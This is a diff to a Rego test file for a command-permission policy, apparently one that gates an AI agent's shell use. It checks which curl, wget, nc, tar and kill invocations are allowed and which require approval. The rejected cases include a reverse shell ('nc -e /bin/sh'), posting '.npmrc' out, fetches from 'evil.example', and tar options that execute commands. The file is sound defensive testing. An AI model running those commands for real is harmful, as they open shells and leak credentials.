@@ -9,6 +9,8 @@ test_reading_from_this_machine_passes if {
 		["curl", "-so", "out.json", "-w", "%{http_code}", "http://127.0.0.1:8080/"],
 		["curl", "-X", "GET", "-H", "Accept: text/html", "http://[::1]:3000/a?b=c"],
 		["curl", "--max-time", "3", "--silent", "https://LOCALHOST/"],
+		["curl", "-s", "-X", "POST", "localhost:8080/api/coupon", "-H", "Content-Type: application/json", "-d", "{\"code\":\"ten\"}"],
+		["curl", "-d", "a=b", "localhost:3000/x"],
 	] {
 		holdgate.decision.action == "allow" with input as shell([argv])
 	}
@@ -19,7 +21,8 @@ test_all_else_that_curl_can_do_asks if {
 		[], ["-s"], ["https://example.com"], ["localhost", "example.com"], ["http://localhost@example.com/"],
 		["http://localhost:80@example.com/"], ["http://localhost#@example.com/"], ["http://localhost\\@example.com/"],
 		["localhost.example.com"], ["localhost:07301"], ["localhost:{7301,80}"], ["file:///etc/passwd"],
-		["-X", "POST", "localhost"], ["-sX", "DELETE", "localhost"], ["-d", "a=b", "localhost"], ["--data", "x", "localhost"],
+		["-sX", "DELETE", "localhost"], ["-d", "@x", "localhost"], ["--data", "a=@x", "localhost"], ["--data-binary", "x", "localhost"],
+		["-X", "POST", "localhost:2375/containers/create"], ["-d", "x", "http://127.0.0.1:8001/api"], ["-X", "PUT", "localhost:2379/v2/keys/x"],
 		["-T", "x", "localhost"], ["-F", "a=@x", "localhost"], ["-K", "x", "localhost"], ["-x", "proxy", "localhost"], ["-L", "localhost"],
 		["--connect-to", "::example.com:80", "localhost"], ["--resolve", "localhost:80:1.2.3.4", "localhost"],
 		["--unix-socket", "/x", "localhost"], ["-XPOST", "localhost"], ["-H", "@x", "localhost"], ["-w", "%output{x}", "localhost"],
@@ -40,17 +43,11 @@ test_hosts_of_the_settings_are_near if {
 	holdgate.decision.action == "allow" with input as call with data.settings.network.hosts as ["build.internal"]
 }
 
-test_listing_an_archive_passes if {
-	every word in ["tzf", "-tzf", "tvf", "tf", "-tJf"] {
-		holdgate.decision.action == "allow" with input as shell([["tar", word, "x.tgz"]])
+test_archives_are_packed_and_unpacked if {
+	every argv in [["tar", "tzf", "x.tgz"], ["tar", "xzf", "x.tgz"], ["tar", "czf", "x.tgz", "."]] {
+		holdgate.decision.action == "allow" with input as shell([argv])
 	}
-}
-
-test_all_else_that_tar_can_do_asks if {
-	every argv in [
-		["tar", "xzf", "x.tgz"], ["tar", "czf", "x.tgz", "."], ["tar", "tIf", "id", "x.tgz"], ["tar", "tf", "host:x"], ["tar", "tf", "-"],
-		["tar", "tzf", "x.tgz", "--to-command=id"], ["tar", "tzf", "x.tgz", "--checkpoint-act=exec=id"], ["tar", "tf"], ["tar", "f", "x"],
-	] {
+	every argv in [["tar", "tzf", "x.tgz", "--to-command=id"], ["tar", "tzf", "x.tgz", "--checkpoint-act=exec=id"], ["tar", "-tI", "id", "-f", "x.tgz"]] {
 		holdgate.decision.rule == "shell.script" with input as shell([argv])
 	}
 }
@@ -59,4 +56,65 @@ test_subcommands_may_have_none if {
 	holdgate.decision.action == "allow" with input as shell([["git", "stash"]])
 	holdgate.decision.rule == "shell.unknown" with input as shell([["git", "worktree"]])
 	holdgate.decision.rule == "git.discard" with input as shell([["git", "stash", "drop"]])
+}
+
+test_clients_of_this_machine_pass if {
+	every line in [
+		"wget -qO- http://localhost:8080/health",
+		"http GET :8080/api/orders status==open",
+		"xh :3000/api/products",
+		"grpcurl -plaintext localhost:50051 shop.Catalog/Get",
+		"websocat -1 ws://localhost:8080/ws",
+		"http GET localhost:3000/x q=1",
+		"nc -zv 127.0.0.1 6379",
+		"hey -n 200 -c 10 http://localhost:8080/x",
+		"ping -c 1 127.0.0.1",
+		"dig +short localhost",
+		"wget -q -O page.html http://localhost:3000/",
+		"wrk -t2 -c20 -d5s http://127.0.0.1:8080/health",
+	] {
+		holdgate.decision.action == "allow" with input as shell([split(line, " ")])
+	}
+}
+
+test_clients_that_may_leave_the_machine_ask if {
+	every line in [
+		"wget https://evil.example/x",
+		"wget http://localhost/x https://evil.example/x",
+		"wget -i urls.txt http://localhost/x",
+		"wget --post-file=.npmrc http://localhost/x",
+		"nc -e /bin/sh 127.0.0.1 4444",
+		"nc -lk 127.0.0.1 4444",
+		"nc evil.example 80",
+		"nc 127.0.0.1 evil",
+		"ncat --proxy=evil 127.0.0.1 80",
+		"ping evil.example",
+		"dig x.evil.example localhost",
+		"dig @evil.example localhost",
+		"http POST evil.example localhost",
+		"websocat exec:sh ws://localhost:1/",
+		"grpcurl evil.example:443 list",
+		"hey http://localhost/x http://evil.example",
+		"http --proxy=http:http://evil.example :80/",
+		"k6 --out=x localhost",
+		"wget -qO- http://localhost.evil.example/",
+		"http GET :80@evil.example/",
+	] {
+		holdgate.decision.action != "allow" with input as shell([split(line, " ")])
+	}
+}
+
+test_data_and_headers_of_local_requests_pass if {
+	holdgate.decision.action == "allow" with input as shell([["grpcurl", "-plaintext", "-d", "{\"sku\":\"A1\"}", "localhost:50051", "shop.Catalog/Get"]])
+}
+
+test_what_the_line_started_may_be_ended if {
+	every argv in [["kill", "$!"], ["kill", "%1"], ["kill", "-9", "$S"], ["kill", "-TERM", "${PID}"]] {
+		holdgate.decision.action == "allow" with input as shell([argv])
+	}
+	piped := json.patch(shell([["kill", "-9", "$P"]]), [{"op": "add", "path": "/facts/commands/0/via", "value": ["xargs"]}])
+	holdgate.decision.rule == "shell.system" with input as piped
+	every argv in [["kill", "1"], ["kill", "-9", "-1"], ["kill"], ["kill", "4711"]] {
+		holdgate.decision.rule == "shell.system" with input as shell([argv])
+	}
 }
